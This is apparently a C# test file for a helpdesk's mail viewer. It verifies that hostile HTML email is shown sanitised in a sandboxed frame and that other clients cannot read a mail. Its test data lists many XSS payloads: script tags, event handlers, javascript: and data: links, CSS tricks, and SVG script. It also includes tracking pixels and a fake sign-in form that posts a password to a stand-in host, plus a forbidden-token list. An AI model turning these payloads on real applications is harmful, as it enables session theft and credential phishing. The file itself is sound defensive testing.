using System.Net;
using System.Text.RegularExpressions;
using Baton.Web.Features.Mail;
using Baton.Web.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using MimeKit;

namespace Baton.Web.Tests.Mail;

/// <summary>Hostile HTML mail, filed through the gateway and read back as the desk reads it: nothing runs, nothing is fetched.</summary>
public sealed partial class HostileHtmlTests(MailingDesk desk) : IClassFixture<MailingDesk>
{
    private BatonAppFactory App => desk.App;

    /// <summary>Each attack as a mail client (or an attacker) would write it.</summary>
    public static TheoryData<string, string> Attacks => new()
    {
        { "script", "<p>Hi</p><script>alert(document.cookie)</script><SCRIPT SRC=http://evil.example/x.js></SCRIPT>" },
        { "event handlers", "<body onload=alert(1)><img src=x onerror=alert(1)><div onmouseover=\"alert(1)\">hover</div><p ONCLICK=alert(1)>p</p>" },
        { "javascript links", "<a href=\"javascript:alert(1)\">a</a><a href=\"JaVaScRiPt:alert(1)\">b</a><a href=\"&#106;avascript:alert(1)\">c</a><a href=\" javascript:alert(1)\">d</a>" },
        { "data links", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">open</a><img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">" },
        { "css", "<div style=\"width: expression(alert(1)); background:url(http://tracker.example/bg.png)\">x</div><style>@import 'http://tracker.example/a.css'; body{background:url(http://tracker.example/b.png)}</style><link rel=stylesheet href=http://tracker.example/c.css>" },
        { "svg", "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\"><text>t</text></a></svg><math><mtext><script>alert(1)</script></mtext></math>" },
        { "remote images and frames", "<img src=\"http://tracker.example/pixel.gif?u=mia\" width=1 height=1><img srcset=\"https://tracker.example/a.png 1x\"><table background=\"http://tracker.example/t.png\"><tr><td>t</td></tr></table><video poster=\"http://tracker.example/v.png\"></video><iframe src=\"http://evil.example/\"></iframe><object data=\"http://evil.example/o\"></object><embed src=\"http://evil.example/e\">" },
        { "page takeover", "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\"><base href=\"http://evil.example/\"><form action=\"http://evil.example/steal\"><input name=password><button>Sign in again</button></form>" },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task AHostileHtmlMail_IsShownWithNothingExecutable_AndNothingFetched(string attack, string html)
    {
        var (number, mailId) = await FileHtmlAsync($"Hostile: {attack}", html);
        using var agent = await App.SignInAsAgentAsync();

        var response = await agent.GetAsync($"/Tickets/{number}/Mail/{mailId}?handler=Body");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(Baton.Web.Infrastructure.Http.MailPreview.FramedPolicy, response.Headers.GetValues("Content-Security-Policy").Single());
        var body = (await response.Content.ReadAsStringAsync()).ToLowerInvariant();
        Assert.DoesNotMatch(EventHandler(), body);
        foreach (var forbidden in new[] { "<script", "javascript:", "href=\"data:", "src=\"data:image/svg", "expression(", "<svg", "<math", "<style", "<link", "<iframe", "<object", "<embed", "<meta http-equiv", "<base", "<form", "<input", "tracker.example", "evil.example" })
        {
            Assert.DoesNotContain(forbidden, body, StringComparison.Ordinal);
        }

        var page = await agent.GetHtmlAsync($"/Tickets/{number}/Mail/{mailId}");
        Assert.Contains("<iframe class=\"mail-frame\" title=\"The mail as sent\" sandbox src=", page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task TheMailsOwnInlineImage_IsEmbedded_AndTheTicketLinksToTheFullMail()
    {
        var png = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
        var (number, mailId) = await FileHtmlAsync("Screenshot inline", "<p>See:</p><img src=\"cid:shot@client\" alt=\"error dialog\"><img src=\"cid:missing@client\" alt=\"gone\">", png);
        using var agent = await App.SignInAsAgentAsync();

        var body = await (await agent.GetAsync($"/Tickets/{number}/Mail/{mailId}?handler=Body")).Content.ReadAsStringAsync();
        Assert.Contains($"src=\"data:image/png;base64,{Convert.ToBase64String(png)}\"", body, StringComparison.Ordinal);
        Assert.Contains("[image: gone]", body, StringComparison.Ordinal);

        var ticketPage = await agent.GetHtmlAsync($"/Tickets/{number}");
        Assert.Contains($"href=\"/Tickets/{number}/Mail/{mailId}\"", ticketPage, StringComparison.Ordinal);
    }

    [Fact]
    public async Task AContactOfAnotherClient_CannotReadTheMail()
    {
        var (number, mailId) = await FileHtmlAsync("Not for the neighbours", "<p>Private</p>");
        var neighbour = await App.CreateContactUserAsync(await App.CreateClientAsync());
        using var contact = await App.SignInAsync(neighbour.Email, BatonAppFactory.UserPassword);

        Assert.Equal(HttpStatusCode.NotFound, (await contact.GetAsync($"/Tickets/{number}/Mail/{mailId}")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await contact.GetAsync($"/Tickets/{number}/Mail/{mailId}?handler=Body")).StatusCode);
    }

    private async Task<(string Number, long MailId)> FileHtmlAsync(string subject, string html, byte[]? inlinePng = null)
    {
        var client = await App.CreateClientAsync();
        var requester = await App.WithDbAsync(db => db.Contacts.Where(c => c.Id == client.ContactId).Select(c => c.Email).SingleAsync());
        var builder = new BodyBuilder { HtmlBody = html, TextBody = "The text part." };
        if (inlinePng is not null)
        {
            var image = builder.LinkedResources.Add("shot.png", inlinePng, new ContentType("image", "png"));
            image.ContentId = "shot@client";
        }

        var mail = InboundMailTests.Mail(requester, subject, "");
        mail.Body = builder.ToMessageBody();
        var (status, filed, text) = await desk.PostMailAsync(InboundMailTests.Raw(mail));
        Assert.True(status == HttpStatusCode.OK && filed!.Outcome == "NewTicket", text);
        return (filed.Ticket!, filed.Id);
    }

    [GeneratedRegex(@"<[^>]*\son[a-z]+\s*=", RegexOptions.IgnoreCase)]
    private static partial Regex EventHandler();
}
